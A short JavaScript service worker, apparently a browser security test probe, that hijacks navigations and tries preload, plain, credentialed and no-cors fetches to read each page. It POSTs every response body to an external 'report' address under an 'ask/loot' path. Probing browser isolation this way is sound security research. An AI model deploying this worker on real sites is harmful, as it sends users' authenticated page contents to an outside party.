// A service worker that takes every document for itself: as its preload has
// brought it, as it can fetch it, and as it comes while it does nothing.
"use strict";

const report = new URL(location).searchParams.get("report");
addEventListener("install", (event) => {
  // In Chromium: what the network brings meanwhile is what fetch then returns.
  event.addRoutes?.({ condition: { urlPattern: new URLPattern({ search: "race" }) }, source: "race-network-and-fetch-handler" });
  skipWaiting();
});
addEventListener("activate", (event) => event.waitUntil(registration.navigationPreload.enable()));
addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate") event.respondWith(steal(event));
});

async function steal({ request, preloadResponse }) {
  const ways = {
    preload: () => preloadResponse,
    request: () => fetch(request),
    url: () => fetch(request.url, { credentials: "include" }),
    opaque: () => fetch(request.url, { credentials: "include", mode: "no-cors" }),
  };
  for (const [way, run] of Object.entries(ways)) {
    let said;
    try {
      const response = await run();
      said = response === undefined ? "nothing" : `${response.type} ${response.status} ${await response.text()}`;
    } catch (e) {
      said = e.name;
    }
    await fetch(`${report}ask/loot`, { method: "POST", mode: "cors", credentials: "omit", body: JSON.stringify({ scope: new URL(registration.scope).pathname, way, said }) });
  }
  return new Response("<!doctype html><title>The worker's own</title>", { headers: { "Content-Type": "text/html", "Cross-Origin-Embedder-Policy": "require-corp", "Cross-Origin-Resource-Policy": "cross-origin", "Cross-Origin-Opener-Policy": "same-origin" } });
}
